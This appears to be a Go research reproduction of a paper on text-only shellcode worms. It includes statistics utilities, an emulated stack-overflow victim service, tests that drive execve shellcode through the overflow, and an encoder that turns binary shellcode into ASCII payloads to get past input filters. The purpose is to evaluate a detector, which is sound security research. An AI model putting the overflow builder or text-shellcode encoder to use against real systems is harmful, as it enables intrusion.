	for {
		u := 2*r.Float64() - 1
		v := 2*r.Float64() - 1
		s := u*u + v*v
		if s > 0 && s < 1 {
			return u * math.Sqrt(-2*math.Log(s)/s)
		}
	}
}

// Geometric returns the number of failures before the first success in
// Bernoulli(p) trials (support {0, 1, 2, ...}). It panics if p is outside
// (0, 1].
func (r *RNG) Geometric(p float64) int {
	if p <= 0 || p > 1 {
		panic("stats: Geometric needs p in (0,1]")
	}
	if p == 1 {
		return 0
	}
	u := r.Float64()
	// Inverse-CDF sampling: floor(log(1-u)/log(1-p)).
	return int(math.Floor(math.Log1p(-u) / math.Log1p(-p)))
}

// WeightedChoice returns an index in [0, len(weights)) drawn with
// probability proportional to weights[i]. Weights must be non-negative and
// must not all be zero.
func (r *RNG) WeightedChoice(weights []float64) int {
	var total float64
	for _, w := range weights {
		total += w
	}
	x := r.Float64() * total
	for i, w := range weights {
		x -= w
		if x < 0 {
			return i
		}
	}
	return len(weights) - 1
}

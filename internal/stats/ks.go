package stats

import (
	"errors"
	"math"
	"sort"
)

// KSResult holds a two-sample Kolmogorov-Smirnov test outcome.
type KSResult struct {
	// Statistic is the supremum distance between the empirical CDFs.
	Statistic float64
	// PValue is the asymptotic two-sided p-value (Kolmogorov
	// distribution approximation).
	PValue float64
}

// KolmogorovSmirnov runs the two-sample KS test on samples a and b.
func KolmogorovSmirnov(a, b []float64) (*KSResult, error) {
	if len(a) == 0 || len(b) == 0 {
		return nil, errors.New("stats: KS test needs non-empty samples")
	}
	as := append([]float64(nil), a...)
	bs := append([]float64(nil), b...)
	sort.Float64s(as)
	sort.Float64s(bs)

	var d float64
	i, j := 0, 0
	na, nb := float64(len(as)), float64(len(bs))
	for i < len(as) && j < len(bs) {
		// Advance both sides past the smaller value (and any ties) before
		// measuring, so tied observations do not create phantom gaps.
		v := as[i]
		if bs[j] < v {
			v = bs[j]
		}
		for i < len(as) && as[i] == v {
			i++
		}
		for j < len(bs) && bs[j] == v {
			j++
		}
		if diff := math.Abs(float64(i)/na - float64(j)/nb); diff > d {
			d = diff
		}
	}

	ne := na * nb / (na + nb)
	lambda := (math.Sqrt(ne) + 0.12 + 0.11/math.Sqrt(ne)) * d
	return &KSResult{Statistic: d, PValue: ksSurvival(lambda)}, nil
}

// ksSurvival is the Kolmogorov distribution survival function
// Q(λ) = 2 Σ (-1)^{k-1} exp(-2 k² λ²).
func ksSurvival(lambda float64) float64 {
	if lambda <= 0 {
		return 1
	}
	var sum float64
	sign := 1.0
	for k := 1; k <= 100; k++ {
		term := sign * math.Exp(-2*float64(k)*float64(k)*lambda*lambda)
		sum += term
		if math.Abs(term) < 1e-12 {
			break
		}
		sign = -sign
	}
	q := 2 * sum
	switch {
	case q < 0:
		return 0
	case q > 1:
		return 1
	default:
		return q
	}
}

package stats

import (
	"errors"
	"fmt"
	"strings"
)

// IntHistogram counts occurrences of non-negative integer values, used for
// empirical MEL frequency charts (Figure 3) and Monte-Carlo PMFs (Figure 1).
type IntHistogram struct {
	counts map[int]int
	total  int
}

// NewIntHistogram returns an empty histogram.
func NewIntHistogram() *IntHistogram {
	return &IntHistogram{counts: make(map[int]int)}
}

// Add records one observation of value v.
func (h *IntHistogram) Add(v int) {
	h.counts[v]++
	h.total++
}

// AddN records n observations of value v.
func (h *IntHistogram) AddN(v, n int) {
	if n <= 0 {
		return
	}
	h.counts[v] += n
	h.total += n
}

// Count returns the number of observations of value v.
func (h *IntHistogram) Count(v int) int { return h.counts[v] }

// Total returns the total number of observations.
func (h *IntHistogram) Total() int { return h.total }

// Max returns the largest observed value, or an error if empty.
func (h *IntHistogram) Max() (int, error) {
	if h.total == 0 {
		return 0, ErrEmpty
	}
	first := true
	maxV := 0
	for v := range h.counts {
		if first || v > maxV {
			maxV = v
			first = false
		}
	}
	return maxV, nil
}

// Min returns the smallest observed value, or an error if empty.
func (h *IntHistogram) Min() (int, error) {
	if h.total == 0 {
		return 0, ErrEmpty
	}
	first := true
	minV := 0
	for v := range h.counts {
		if first || v < minV {
			minV = v
			first = false
		}
	}
	return minV, nil
}

// Mean returns the mean of the observations.
func (h *IntHistogram) Mean() (float64, error) {
	if h.total == 0 {
		return 0, ErrEmpty
	}
	var sum float64
	for v, c := range h.counts {
		sum += float64(v) * float64(c)
	}
	return sum / float64(h.total), nil
}

// PMF returns the empirical probability mass function as a dense slice
// indexed by value from 0 through Max(). Empty histograms yield an error.
func (h *IntHistogram) PMF() ([]float64, error) {
	maxV, err := h.Max()
	if err != nil {
		return nil, err
	}
	pmf := make([]float64, maxV+1)
	for v, c := range h.counts {
		if v >= 0 {
			pmf[v] = float64(c) / float64(h.total)
		}
	}
	return pmf, nil
}

// CDFAt returns the empirical P[X <= x].
func (h *IntHistogram) CDFAt(x int) float64 {
	if h.total == 0 {
		return 0
	}
	var cum int
	for v, c := range h.counts {
		if v <= x {
			cum += c
		}
	}
	return float64(cum) / float64(h.total)
}

// QuantileValue returns the smallest value v with P[X <= v] >= q.
func (h *IntHistogram) QuantileValue(q float64) (int, error) {
	if h.total == 0 {
		return 0, ErrEmpty
	}
	if q < 0 || q > 1 {
		return 0, errors.New("stats: quantile q must be in [0,1]")
	}
	maxV, _ := h.Max()
	minV, _ := h.Min()
	target := q * float64(h.total)
	var cum float64
	for v := minV; v <= maxV; v++ {
		cum += float64(h.counts[v])
		if cum >= target {
			return v, nil
		}
	}
	return maxV, nil
}

// Render returns a textual bar chart of the histogram bucketed by width,
// suitable for terminal output of Figure-3-style frequency charts.
func (h *IntHistogram) Render(bucketWidth, barScale int) string {
	if h.total == 0 {
		return "(empty histogram)\n"
	}
	if bucketWidth < 1 {
		bucketWidth = 1
	}
	if barScale < 1 {
		barScale = 1
	}
	maxV, _ := h.Max()
	minV, _ := h.Min()
	loBucket := minV / bucketWidth
	hiBucket := maxV / bucketWidth
	var sb strings.Builder
	for b := loBucket; b <= hiBucket; b++ {
		var c int
		for v := b * bucketWidth; v < (b+1)*bucketWidth; v++ {
			c += h.counts[v]
		}
		bar := strings.Repeat("#", (c+barScale-1)/barScale)
		fmt.Fprintf(&sb, "%5d-%-5d |%4d %s\n", b*bucketWidth, (b+1)*bucketWidth-1, c, bar)
	}
	return sb.String()
}

// Values returns every recorded observation expanded into a slice, ordered
// by value. Useful for feeding Summarize.
func (h *IntHistogram) Values() []float64 {
	out := make([]float64, 0, h.total)
	if h.total == 0 {
		return out
	}
	minV, _ := h.Min()
	maxV, _ := h.Max()
	for v := minV; v <= maxV; v++ {
		for i := 0; i < h.counts[v]; i++ {
			out = append(out, float64(v))
		}
	}
	return out
}

package stats

import (
	"errors"
	"fmt"
)

// ContingencyTable is an r×c table of observed frequencies for Pearson's
// chi-square test of independence. Rows index the first variable's levels
// and columns the second's.
type ContingencyTable struct {
	Observed [][]float64
}

// NewContingencyTable validates and wraps an observed-frequency matrix.
// The matrix must be rectangular with at least 2 rows and 2 columns and
// non-negative entries.
func NewContingencyTable(observed [][]float64) (*ContingencyTable, error) {
	if len(observed) < 2 {
		return nil, errors.New("stats: contingency table needs >= 2 rows")
	}
	cols := len(observed[0])
	if cols < 2 {
		return nil, errors.New("stats: contingency table needs >= 2 columns")
	}
	for i, row := range observed {
		if len(row) != cols {
			return nil, fmt.Errorf("stats: row %d has %d columns, want %d", i, len(row), cols)
		}
		for j, v := range row {
			if v < 0 {
				return nil, fmt.Errorf("stats: negative count at (%d,%d)", i, j)
			}
		}
	}
	return &ContingencyTable{Observed: observed}, nil
}

// ChiSquareResult holds the outcome of a Pearson chi-square independence
// test: the statistic, degrees of freedom, p-value, and the expected
// frequencies under the null hypothesis of independence.
type ChiSquareResult struct {
	Statistic float64
	DF        int
	PValue    float64
	Expected  [][]float64
}

// IndependentAt reports whether the null hypothesis of independence is
// NOT rejected at significance level alpha (i.e. p-value > alpha).
func (r *ChiSquareResult) IndependentAt(alpha float64) bool {
	return r.PValue > alpha
}

// ChiSquareIndependence runs Pearson's chi-square test of independence on
// the table. It returns an error if any expected cell frequency is zero
// (the test is undefined there) or the total count is zero.
func (t *ContingencyTable) ChiSquareIndependence() (*ChiSquareResult, error) {
	rows := len(t.Observed)
	cols := len(t.Observed[0])

	rowSums := make([]float64, rows)
	colSums := make([]float64, cols)
	var total float64
	for i := 0; i < rows; i++ {
		for j := 0; j < cols; j++ {
			v := t.Observed[i][j]
			rowSums[i] += v
			colSums[j] += v
			total += v
		}
	}
	if total == 0 {
		return nil, errors.New("stats: contingency table is empty")
	}

	expected := make([][]float64, rows)
	var chi2 float64
	for i := 0; i < rows; i++ {
		expected[i] = make([]float64, cols)
		for j := 0; j < cols; j++ {
			e := rowSums[i] * colSums[j] / total
			expected[i][j] = e
			if e == 0 {
				return nil, fmt.Errorf("stats: expected frequency is zero at (%d,%d)", i, j)
			}
			d := t.Observed[i][j] - e
			chi2 += d * d / e
		}
	}

	df := (rows - 1) * (cols - 1)
	p, err := ChiSquareSurvival(chi2, df)
	if err != nil {
		return nil, fmt.Errorf("chi-square p-value: %w", err)
	}
	return &ChiSquareResult{Statistic: chi2, DF: df, PValue: p, Expected: expected}, nil
}

// ChiSquareGoodnessOfFit tests observed counts against expected counts
// (same length, expected all positive). Degrees of freedom default to
// len(observed)-1; use dfAdjust to subtract fitted parameters.
func ChiSquareGoodnessOfFit(observed, expected []float64, dfAdjust int) (*ChiSquareResult, error) {
	if len(observed) != len(expected) {
		return nil, errors.New("stats: observed/expected length mismatch")
	}
	if len(observed) < 2 {
		return nil, errors.New("stats: need >= 2 categories")
	}
	var chi2 float64
	for i := range observed {
		if expected[i] <= 0 {
			return nil, fmt.Errorf("stats: expected[%d] must be positive", i)
		}
		d := observed[i] - expected[i]
		chi2 += d * d / expected[i]
	}
	df := len(observed) - 1 - dfAdjust
	if df < 1 {
		return nil, errors.New("stats: non-positive degrees of freedom")
	}
	p, err := ChiSquareSurvival(chi2, df)
	if err != nil {
		return nil, fmt.Errorf("chi-square p-value: %w", err)
	}
	exp := [][]float64{append([]float64(nil), expected...)}
	return &ChiSquareResult{Statistic: chi2, DF: df, PValue: p, Expected: exp}, nil
}

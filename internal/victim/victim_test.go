package victim

import (
	"testing"

	"repro/internal/core"
	"repro/internal/encoder"
	"repro/internal/shellcode"
	"repro/internal/stats"
	"repro/internal/textins"
)

func TestBenignRequestHandled(t *testing.T) {
	s := NewService()
	res, err := s.HandleRequest([]byte("GET /index.html HTTP/1.1"))
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeHandled {
		t.Fatalf("benign request outcome %v (%s)", res.Outcome, res.Detail)
	}
}

func TestOversizedGarbageCrashes(t *testing.T) {
	s := NewService()
	rng := stats.NewRNG(5)
	req := make([]byte, s.BufSize+200)
	for i := range req {
		req[i] = byte(0x20 + rng.Intn(0x5F)) // text garbage, no NULs
	}
	res, err := s.HandleRequest(req)
	if err != nil {
		t.Fatal(err)
	}
	// The return address is smashed with text bytes → jump into an
	// unmapped text-valued address or execution of garbage → crash.
	if res.Outcome != OutcomeCrashed {
		t.Fatalf("garbage overflow outcome %v", res.Outcome)
	}
}

// TestEndToEndExploit is the Section 5.1 verification in full: overflow,
// hijacked return, text decrypter, shell.
func TestEndToEndExploit(t *testing.T) {
	s := NewService()
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 9, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	req := s.ExploitRequest(worm.Bytes)
	res, err := s.HandleRequest(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeShell {
		t.Fatalf("exploit outcome %v (%s)", res.Outcome, res.Detail)
	}
}

// TestASCIIFilterStopsClassicSmash: against a classic high stack address
// the overwritten return address contains non-text bytes, so the filter
// genuinely stops the naive exploit.
func TestASCIIFilterStopsClassicSmash(t *testing.T) {
	s := NewService()
	s.ASCIIFilter = true
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 10, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	req := s.ExploitRequest(worm.Bytes)
	if textins.IsTextStream(req) {
		t.Fatal("classic-exploit request should contain binary address bytes")
	}
	res, err := s.HandleRequest(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeRejected {
		t.Fatalf("filter outcome %v", res.Outcome)
	}
}

// TestTextAddressExploitBeatsFilter is the paper's central claim at its
// sharpest: when the hijack target address is itself text, the ENTIRE
// request is keyboard-enterable — the ASCII filter passes it and the
// shell spawns anyway.
func TestTextAddressExploitBeatsFilter(t *testing.T) {
	s := NewTextAddressService()
	s.ASCIIFilter = true
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 11, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	req := s.ExploitRequest(worm.Bytes)
	if !textins.IsTextStream(req) {
		t.Fatalf("text-address exploit request must be pure text")
	}
	res, err := s.HandleRequest(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeShell {
		t.Fatalf("text exploit outcome %v (%s)", res.Outcome, res.Detail)
	}
}

// TestMELDetectorStopsWhatTheFilterMisses closes the loop: the same
// pure-text request that sails through the ASCII filter is flagged by
// the MEL detector.
func TestMELDetectorStopsWhatTheFilterMisses(t *testing.T) {
	s := NewTextAddressService()
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 12, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	req := s.ExploitRequest(worm.Bytes)

	det, err := newDetector()
	if err != nil {
		t.Fatal(err)
	}
	v, err := det.Scan(req)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatalf("MEL detector missed the full exploit request (MEL=%d τ=%.1f)", v.MEL, v.Threshold)
	}
}

func TestStrcpyStopsAtNUL(t *testing.T) {
	// A NUL before the return slot truncates the copy: the clean return
	// address survives and the request is handled normally.
	s := NewService()
	req := make([]byte, s.BufSize+100)
	for i := range req {
		req[i] = 'A'
	}
	req[10] = 0 // strcpy stops here
	res, err := s.HandleRequest(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeHandled {
		t.Fatalf("NUL-truncated request outcome %v", res.Outcome)
	}
}

func TestServiceValidation(t *testing.T) {
	s := NewService()
	s.BufSize = 0
	if _, err := s.HandleRequest([]byte("x")); err == nil {
		t.Error("zero buffer should fail")
	}
	s = NewService()
	s.BufSize = stackSize
	if _, err := s.HandleRequest([]byte("x")); err == nil {
		t.Error("oversized buffer should fail")
	}
	s = NewService()
	huge := make([]byte, stackSize)
	for i := range huge {
		huge[i] = 'A'
	}
	if _, err := s.HandleRequest(huge); err == nil {
		t.Error("request exceeding the window should fail")
	}
}

func TestOutcomeNames(t *testing.T) {
	if OutcomeShell.String() != "shell" || OutcomeRejected.String() != "rejected" ||
		OutcomeHandled.String() != "handled" || OutcomeCrashed.String() != "crashed" {
		t.Error("outcome names wrong")
	}
	if Outcome(99).String() != "unknown" {
		t.Error("unknown outcome name")
	}
}

// newDetector builds the default detector without importing core at the
// top level of the test list above.
func newDetector() (*core.Detector, error) { return core.New() }

// TestVariantWormsThroughExploitChain runs diversified payload variants
// end to end: every one must spawn a shell via the overflow.
func TestVariantWormsThroughExploitChain(t *testing.T) {
	s := NewService()
	for i, sc := range shellcode.Variants(77, 8) {
		worm, err := encoder.Encode(sc.Code, encoder.Options{Seed: uint64(100 + i), SledLen: 16})
		if err != nil {
			t.Fatalf("variant %d: %v", i, err)
		}
		res, err := s.HandleRequest(s.ExploitRequest(worm.Bytes))
		if err != nil {
			t.Fatalf("variant %d: %v", i, err)
		}
		if res.Outcome != OutcomeShell {
			t.Fatalf("variant %d outcome %v (%s)", i, res.Outcome, res.Detail)
		}
	}
}

// TestSubWriteStyleThroughExploitChain exercises the leaner decrypter in
// the same end-to-end setting.
func TestSubWriteStyleThroughExploitChain(t *testing.T) {
	s := NewTextAddressService()
	s.ASCIIFilter = true
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{
		Seed: 55, SledLen: 16, Style: encoder.StyleSubWrite,
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.HandleRequest(s.ExploitRequest(worm.Bytes))
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != OutcomeShell {
		t.Fatalf("sub-write exploit outcome %v (%s)", res.Outcome, res.Detail)
	}
}

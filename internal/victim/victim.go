// Package victim simulates the vulnerable network service of Section
// 5.1: a request handler that strcpy's attacker-controlled input into a
// fixed-size stack buffer, smashing the saved return address. Feeding it
// an exploit makes the whole kill chain concrete — overflow → control
// hijack → text decrypter execution → execve — with the same
// observability the paper used ("observing the spawning of the shell").
//
// The service models the paper's era: a 32-bit flat process, no stack
// protector, no ASLR (the buffer's stack address is fixed and known to
// the attacker), and an optional ASCII input filter — the defense the
// paper shows to be insufficient.
package victim

import (
	"errors"
	"fmt"

	"repro/internal/emu"
	"repro/internal/x86"
)

// Service layout constants.
const (
	// stackBase is the base of the service's stack window.
	stackBase = emu.DefaultBase
	// stackSize is the mapped stack window size.
	stackSize = 1 << 16
	// cleanExitAddr is the legitimate return address: it points at a
	// stub that exits the process cleanly (request handled, no crash).
	cleanExitOffset = 0x100
)

// Service is a stack-smashable request handler.
type Service struct {
	// BufSize is the fixed buffer size the handler copies requests into.
	BufSize int
	// ASCIIFilter rejects requests containing non-text bytes before the
	// copy — the defense the paper's introduction dismantles.
	ASCIIFilter bool
	// MaxSteps bounds post-hijack execution.
	MaxSteps int
	// StackBase relocates the stack window (default emu.DefaultBase, the
	// classic 0xBFFFxxxx Linux stack). A text-valued base models targets
	// whose attackable buffer lives at a keyboard-enterable address.
	StackBase uint32
	// BufOffset positions the buffer within the window (default: the
	// middle of the window).
	BufOffset uint32
}

// NewService returns a service with the classic 512-byte buffer on a
// classic high stack address (whose bytes are NOT text — a naive smash
// cannot pass an ASCII filter).
func NewService() *Service {
	return &Service{
		BufSize:   512,
		MaxSteps:  1 << 20,
		StackBase: stackBase,
		BufOffset: stackSize / 2,
	}
}

// NewTextAddressService returns a service whose hijack target address is
// itself pure text (0x5E5E4040, "@@^^" little-endian): against such a
// target the ENTIRE exploit — padding, overwritten return address, and
// worm — is keyboard-enterable, and the ASCII filter is provably
// insufficient, the paper's central claim in its sharpest form.
func NewTextAddressService() *Service {
	s := NewService()
	s.StackBase = 0x5E5E0000
	// Choose the buffer position so retSlot+4 == 0x5E5E4040.
	s.BufOffset = 0x4040 - 8 - uint32(s.BufSize)
	return s
}

// Result describes how the service handled one request.
type Result struct {
	// Outcome distinguishes the interesting endings.
	Outcome Outcome
	// Detail carries the fault description for crashes.
	Detail string
	// Execution is the raw emulator outcome (nil when the filter
	// rejected the request or no overflow occurred).
	Execution *emu.Outcome
}

// Outcome classifies request handling.
type Outcome int

// Outcomes.
const (
	// OutcomeHandled: the request fit the buffer (or overflowed without
	// changing the return address) and the handler returned normally.
	OutcomeHandled Outcome = iota + 1
	// OutcomeRejected: the ASCII filter refused the request.
	OutcomeRejected
	// OutcomeCrashed: the process died on a fault after the overflow.
	OutcomeCrashed
	// OutcomeShell: the smashed return address led to execve("/bin/sh").
	OutcomeShell
)

var outcomeNames = map[Outcome]string{
	OutcomeHandled:  "handled",
	OutcomeRejected: "rejected",
	OutcomeCrashed:  "crashed",
	OutcomeShell:    "shell",
}

// String names the outcome.
func (o Outcome) String() string {
	if s, ok := outcomeNames[o]; ok {
		return s
	}
	return "unknown"
}

// BufferAddr returns the fixed stack address of the request buffer —
// what an attacker of the era learned once and reused (no ASLR).
func (s *Service) BufferAddr() uint32 {
	return s.StackBase + s.BufOffset
}

// retSlotAddr is where the saved return address lives: right after the
// buffer and the saved EBP.
func (s *Service) retSlotAddr() uint32 {
	return s.BufferAddr() + uint32(s.BufSize) + 4
}

// HandleRequest copies the request into the stack buffer with strcpy
// semantics (copy stops at the first NUL; no bounds check) and then
// "returns" through the possibly-smashed saved return address.
func (s *Service) HandleRequest(req []byte) (Result, error) {
	if s.BufSize <= 0 || s.BufSize > stackSize/4 {
		return Result{}, fmt.Errorf("victim: unusable buffer size %d", s.BufSize)
	}
	if s.ASCIIFilter {
		for _, b := range req {
			if b < 0x20 || b > 0x7E {
				return Result{Outcome: OutcomeRejected,
					Detail: fmt.Sprintf("ASCII filter: byte %#02x", b)}, nil
			}
		}
	}

	mem, err := emu.NewMemory(s.StackBase, stackSize)
	if err != nil {
		return Result{}, err
	}
	cpu, err := emu.New(mem)
	if err != nil {
		return Result{}, err
	}

	// The clean-exit stub the un-smashed return address points at:
	// xor ebx,ebx; xor eax,eax; inc eax; int 0x80  (exit(0)).
	stub := []byte{0x31, 0xDB, 0x31, 0xC0, 0x40, 0xCD, 0x80}
	if err := mem.Load(s.StackBase+cleanExitOffset, stub); err != nil {
		return Result{}, err
	}

	// Frame: [buffer][saved ebp][return address][caller stack...].
	retSlot := s.retSlotAddr()
	if !mem.Contains(retSlot, 4) {
		return Result{}, errors.New("victim: frame outside stack window")
	}
	if err := mem.Load(retSlot, leU32(s.StackBase+cleanExitOffset)); err != nil {
		return Result{}, err
	}

	// strcpy: copy up to (and not including) the first NUL, unbounded.
	n := len(req)
	for i, b := range req {
		if b == 0 {
			n = i
			break
		}
	}
	if !mem.Contains(s.BufferAddr(), n) {
		return Result{}, errors.New("victim: request larger than the stack window")
	}
	if err := mem.Load(s.BufferAddr(), req[:n]); err != nil {
		return Result{}, err
	}

	// Function epilogue: ESP at the return slot; RET pops it.
	retTarget, ok := readU32(mem, retSlot)
	if !ok {
		return Result{}, errors.New("victim: return slot unreadable")
	}
	cpu.EIP = retTarget
	cpu.SetReg(x86.ESP, retSlot+4)

	out := cpu.Run(s.MaxSteps)
	res := Result{Execution: &out}
	switch {
	case out.ShellSpawned():
		res.Outcome = OutcomeShell
	case out.Kind == emu.StopExit:
		res.Outcome = OutcomeHandled
	case out.Kind == emu.StopFault:
		res.Outcome = OutcomeCrashed
		res.Detail = out.Fault.Detail
	default:
		res.Outcome = OutcomeCrashed
		res.Detail = out.Kind.String()
	}
	return res, nil
}

// ExploitRequest assembles the classic smash for this service: padding to
// fill the buffer and saved EBP, the overwritten return address pointing
// just past the return slot, and the worm body there — so that after RET,
// EIP and ESP both land at the worm (the encoder's ESPDelta-0 contract).
func (s *Service) ExploitRequest(worm []byte) []byte {
	padLen := s.BufSize + 4 // buffer + saved ebp
	req := make([]byte, 0, padLen+4+len(worm))
	for i := 0; i < padLen; i++ {
		req = append(req, 'A') // inc ecx — classic text padding
	}
	req = append(req, leU32(s.retSlotAddr()+4)...)
	req = append(req, worm...)
	return req
}

func leU32(v uint32) []byte {
	return []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)}
}

func readU32(m *emu.Memory, addr uint32) (uint32, bool) {
	b := m.Bytes()
	off := int64(addr) - int64(m.Base())
	if off < 0 || off+4 > int64(len(b)) {
		return 0, false
	}
	return uint32(b[off]) | uint32(b[off+1])<<8 | uint32(b[off+2])<<16 | uint32(b[off+3])<<24, true
}

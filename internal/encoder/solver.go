// Package encoder converts binary shellcode into functionally equivalent
// pure-text (keyboard-enterable) payloads, reproducing the rix [9] /
// Eller [6] technique the paper used to build its text-worm corpus. The
// generated worm is a padding sled of harmless one-byte text
// instructions, followed by a fully unrolled text decrypter (O(n) blocks,
// exactly the structure Section 2.3 predicts), followed by a text
// placeholder region that the decrypter overwrites with the original
// binary payload at runtime before falling through into it.
//
// Everything the decrypter needs that is not text-encodable — arbitrary
// 32-bit constants — is synthesized as sums of text words by the solver
// in this file.
package encoder

import (
	"errors"
	"fmt"

	"repro/internal/stats"
)

// Alphabet is the set of bytes the encoder may emit. It must be a
// contiguous-enough set for the solver; the two standard instances are
// TextAlphabet and AlphanumericAlphabet.
type Alphabet struct {
	name    string
	allowed [256]bool
	min     int // smallest allowed byte
	max     int // largest allowed byte
}

// NewAlphabet builds an Alphabet from an explicit byte set.
func NewAlphabet(name string, bytes []byte) (*Alphabet, error) {
	if len(bytes) == 0 {
		return nil, errors.New("encoder: empty alphabet")
	}
	a := &Alphabet{name: name, min: 256, max: -1}
	for _, b := range bytes {
		a.allowed[b] = true
		if int(b) < a.min {
			a.min = int(b)
		}
		if int(b) > a.max {
			a.max = int(b)
		}
	}
	return a, nil
}

// TextAlphabet is the full keyboard-enterable domain 0x20–0x7E.
func TextAlphabet() *Alphabet {
	bytes := make([]byte, 0, 95)
	for b := 0x20; b <= 0x7E; b++ {
		bytes = append(bytes, byte(b))
	}
	a, _ := NewAlphabet("text", bytes) // static construction cannot fail
	return a
}

// AlphanumericAlphabet is the stricter [0-9A-Za-z] domain.
func AlphanumericAlphabet() *Alphabet {
	var bytes []byte
	for b := byte('0'); b <= '9'; b++ {
		bytes = append(bytes, b)
	}
	for b := byte('A'); b <= 'Z'; b++ {
		bytes = append(bytes, b)
	}
	for b := byte('a'); b <= 'z'; b++ {
		bytes = append(bytes, b)
	}
	a, _ := NewAlphabet("alphanumeric", bytes)
	return a
}

// Name returns the alphabet's name.
func (a *Alphabet) Name() string { return a.name }

// Contains reports whether b is in the alphabet.
func (a *Alphabet) Contains(b byte) bool { return a.allowed[b] }

// ContainsAll reports whether every byte of p is in the alphabet.
func (a *Alphabet) ContainsAll(p []byte) bool {
	for _, b := range p {
		if !a.allowed[b] {
			return false
		}
	}
	return true
}

// ErrUnsolvable reports that a target value cannot be expressed as a sum
// of k words over the alphabet.
var ErrUnsolvable = errors.New("encoder: target not expressible over alphabet")

// SumSolver expresses arbitrary 32-bit constants as sums of words whose
// every byte belongs to an alphabet. A deterministic RNG diversifies the
// solutions so that generated worms differ from one another.
type SumSolver struct {
	alpha  *Alphabet
	rng    *stats.RNG
	fixedK int
}

// NewSumSolver returns a solver over the given alphabet, seeded for
// reproducible diversity. It fails if no k <= 6 can express every 32-bit
// value (an alphabet too sparse or narrow for code generation).
func NewSumSolver(alpha *Alphabet, seed uint64) (*SumSolver, error) {
	if alpha == nil {
		return nil, errors.New("encoder: nil alphabet")
	}
	s := &SumSolver{alpha: alpha, rng: stats.NewRNG(seed)}
	s.fixedK = s.computeFixedK()
	if s.fixedK == 0 {
		return nil, fmt.Errorf("encoder: alphabet %q cannot express all constants with k<=6", alpha.name)
	}
	return s, nil
}

// computeFixedK finds the smallest addend count k such that EVERY target
// byte is expressible at every feasible incoming carry — the k for which
// code generation is length-deterministic.
func (s *SumSolver) computeFixedK() int {
	for k := 2; k <= 6; k++ {
		if s.coversAllBytes(k) {
			return k
		}
	}
	return 0
}

func (s *SumSolver) coversAllBytes(k int) bool {
	sumMin, sumMax := k*s.alpha.min, k*s.alpha.max
	for tb := 0; tb < 256; tb++ {
		for carryIn := 0; carryIn < k; carryIn++ {
			feasible := false
			for carryOut := 0; carryOut < k; carryOut++ {
				total := tb + 256*carryOut - carryIn
				if total >= sumMin && total <= sumMax {
					feasible = true
					break
				}
			}
			if !feasible {
				return false
			}
		}
	}
	return true
}

// FixedK returns the addend count SolveFixed always uses.
func (s *SumSolver) FixedK() int { return s.fixedK }

// SolveFixed expresses target as a sum of exactly FixedK() alphabet
// words. Because the addend count never varies, emitted code length is
// independent of the target value — the property the two-pass worm
// layout relies on.
func (s *SumSolver) SolveFixed(target uint32) ([]uint32, error) {
	return s.SolveK(target, s.fixedK)
}

// Solve returns k little-endian 32-bit words, every byte in the
// alphabet, whose sum ≡ target (mod 2^32). It searches k = 2, 3, 4 and
// returns the first solvable decomposition.
func (s *SumSolver) Solve(target uint32) ([]uint32, error) {
	for k := 2; k <= 4; k++ {
		if words, err := s.SolveK(target, k); err == nil {
			return words, nil
		}
	}
	return nil, fmt.Errorf("%w: %#x with k<=4", ErrUnsolvable, target)
}

// SolveK returns exactly k alphabet words summing to target (mod 2^32).
// The per-byte carry chain is resolved left to right (LSB first): at each
// byte position the k addend bytes plus the incoming carry must produce
// the target byte with a feasible outgoing carry in [0, k-1].
func (s *SumSolver) SolveK(target uint32, k int) ([]uint32, error) {
	if k < 1 || k > 8 {
		return nil, fmt.Errorf("encoder: k=%d out of range [1,8]", k)
	}
	sumMin, sumMax := k*s.alpha.min, k*s.alpha.max
	bytesOut := make([][]byte, k)
	for i := range bytesOut {
		bytesOut[i] = make([]byte, 4)
	}

	carry := 0
	for pos := 0; pos < 4; pos++ {
		tb := int(target >> (8 * uint(pos)) & 0xFF)
		found := false
		// Try every feasible outgoing carry, smallest first for
		// determinism of feasibility, with the byte split randomized.
		for carryOut := 0; carryOut < k && !found; carryOut++ {
			total := tb + 256*carryOut - carry
			if total < sumMin || total > sumMax {
				continue
			}
			// Random splits can strand on alphabets with holes; a few
			// retries make failure vanishingly unlikely when the carry
			// choice is feasible at all.
			for attempt := 0; attempt < 16 && !found; attempt++ {
				split, ok := s.splitSum(total, k)
				if !ok {
					continue
				}
				for i, b := range split {
					bytesOut[i][pos] = b
				}
				carry = carryOut
				found = true
			}
		}
		if !found {
			return nil, fmt.Errorf("%w: byte %d of %#x (k=%d)", ErrUnsolvable, pos, target, k)
		}
	}

	words := make([]uint32, k)
	for i := range words {
		words[i] = uint32(bytesOut[i][0]) | uint32(bytesOut[i][1])<<8 |
			uint32(bytesOut[i][2])<<16 | uint32(bytesOut[i][3])<<24
	}
	return words, nil
}

// splitSum decomposes total into k alphabet bytes, randomized. It walks
// the addends, assigning each a random feasible value given what the
// remaining addends can still cover.
func (s *SumSolver) splitSum(total, k int) ([]byte, bool) {
	out := make([]byte, k)
	remaining := total
	for i := 0; i < k; i++ {
		left := k - i - 1
		// Feasible range for this addend.
		lo := remaining - left*s.alpha.max
		hi := remaining - left*s.alpha.min
		if lo < s.alpha.min {
			lo = s.alpha.min
		}
		if hi > s.alpha.max {
			hi = s.alpha.max
		}
		if lo > hi {
			return nil, false
		}
		// Collect feasible alphabet bytes in [lo, hi] and pick one at
